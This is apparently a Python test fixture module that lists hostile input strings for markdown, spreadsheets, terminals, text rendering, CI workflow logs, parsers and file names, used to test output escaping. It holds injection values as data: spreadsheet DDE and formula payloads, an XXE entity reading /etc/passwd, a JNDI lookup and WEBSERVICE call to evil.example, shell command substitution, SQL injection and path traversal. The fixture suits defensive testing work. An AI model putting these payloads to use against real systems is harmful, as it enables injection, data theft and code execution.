"""Attack texts by whom they attack. Those on web pages stand with the tests of the page; N in them is the number of the text."""

from __future__ import annotations

from tests.browser.hostile import TEXTS as PAGE

MARKDOWN = (
    "[click](http://evil.example)", "![pixel](http://evil.example/p.png)", "<img src=http://evil.example/p.png>", "<b>bold</b> <!-- hidden", "[ref]: http://evil.example", "[ref][ref]", "<http://evil.example>",
    "http://evil.example/auto and www.evil.example and a@evil.example", "`code` ``more`` ```fence", "~~~\nfence\n~~~", "# heading", "### heading ###", "- item", "1. item", "1) item", "+ item", "> quotation", "---", "===", "***", "| a | b |", "a | b \\| c", "\\",
    "\\[x](y)", "**bold** __bold__ *it* _it_ ~~gone~~", "line  \nbreak", "&lt;script&gt; &#x3c;b&#x3e;", "[^1] and [^1]: note", "- [ ] task", "$$x$$ $`y`$", ":smile: @everyone #123", "</td></table><script>hit(N)</script>", "<details><summary>x",
)  # fmt: skip
SPREADSHEETS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example/\")", "＝1+1", "＋1", "－1", "＠x",
    "'=1+1", '"=1+1"', '";=1+1;"', '","=1+1","', '"\n=1+1,', "%0A=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "|calc", "0x10", "1e5", "007", "3-11", "TRUE", "#REF!", "\x0b=1+1",
)  # fmt: skip
TERMINALS = (
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1bP$q\x1b\\", "\x1b_G\x1b\\", "\x1b^x\x1b\\", "\x1bc", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1b[21t",
    "\x9b2J", "\x9d0;title\x9c", "\x90x\x9c", "\x07\x07", "\x08\x08\x08hidden", "over\rwritten", "\x0e\x0f", "\x7f\x7f", "\x1b[8mhidden", "\x1b#8", "\x1b(0", "\x1b[1;31m»", "\x0c", "\x85next", "\u2028next\u2029", "\x1a", "\x04",
)  # fmt: skip
READERS = (
    "\u202egnp.exe\u202c", "\u2066x\u2067y\u2069", "\u200ea\u200fb\u061c", "\ufeffmark", "a\u200bb\u200cc\u200dd", "\u00adsoft", "\u0301\u0301\u0301", "\U000e0041\U000e0042tags", "\x00NUL", "half \ud800 half \udfff", "\uffff\ufffe", "раураl", "ＡＢＣ",
)  # fmt: skip
WORKFLOWS = (
    "::error::pwned", "\n::error::pwned", "\r::error::pwned", "%0A::error::pwned", "%0D%0A::set-output name=x::y", "::add-mask::a", "::stop-commands::x", "::set-env name=PATH::/tmp", "##[error]pwned", "##vso[task.setvariable variable=x]y",
    "file=x,line=1::pwned", "a,title=b", "a::b", "::group::", "section_start:1:x\r\x1b[0K", "##teamcity[testFailed name='x']", "\n##[command]x",
)  # fmt: skip
MACHINES = (
    "]]><x/>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "</failure></testcase><testcase name='x'/>", "&#0;&#x1b;&bogus;", '"><failure message="', "\x01\x02\x0b\x0c\x1f", '"}],"x":[{"', "\\u0000\\", "</script><!--", "\\\"",
    "{{message}}", "{0} {message.text}", "[x](1)", "[x](file:///etc/passwd)", "javascript:alert(1)", "file:///etc/passwd", "//evil.example/x", "C:\\Windows\\x", "../../../../etc/passwd", "a?b#c%d", "%2e%2e/x", "${jndi:ldap://evil.example}", "$(touch x) `touch x`; touch x", "' OR 1=1 --",
    "__proto__", "NaN", "-",
)  # fmt: skip
GROUPS = {
    "page": PAGE,
    "markdown": MARKDOWN,
    "spreadsheets": SPREADSHEETS,
    "terminals": TERMINALS,
    "readers": READERS,
    "workflows": WORKFLOWS,
    "machines": MACHINES,
}
TEXTS = tuple(dict.fromkeys(text for group in GROUPS.values() for text in group))
"""Each once."""

NAMES = (
    "line\nend.txt", "tab\t.txt", "\x1b[31mred.txt", "\x1b]0;title\x07.txt", "-rf.txt", "--help.txt", "=1+1.txt", "@SUM(1).txt", "+1.txt", "::error::x.txt", "%0A::error::y.txt", "<img src=x>.txt", "a|b`c`*d*_e_.txt", "[x](http:).txt", "\"quoted\",'x'.txt",
    "a;b&c $(d).txt", "\u202egnp.txt", " leading and trailing .txt", "...txt.txt", "a:b,c=d.txt", "javascript:x.txt", "#1?x%2e.txt", "\\back\\slash.txt", "ＡＢ＝1.txt", "\x9b2J.txt", "re\rturn.txt",
)  # fmt: skip
"""File names that POSIX takes."""
BYTES = b"no \xff UTF-8.txt"
"""One that is no text at all."""
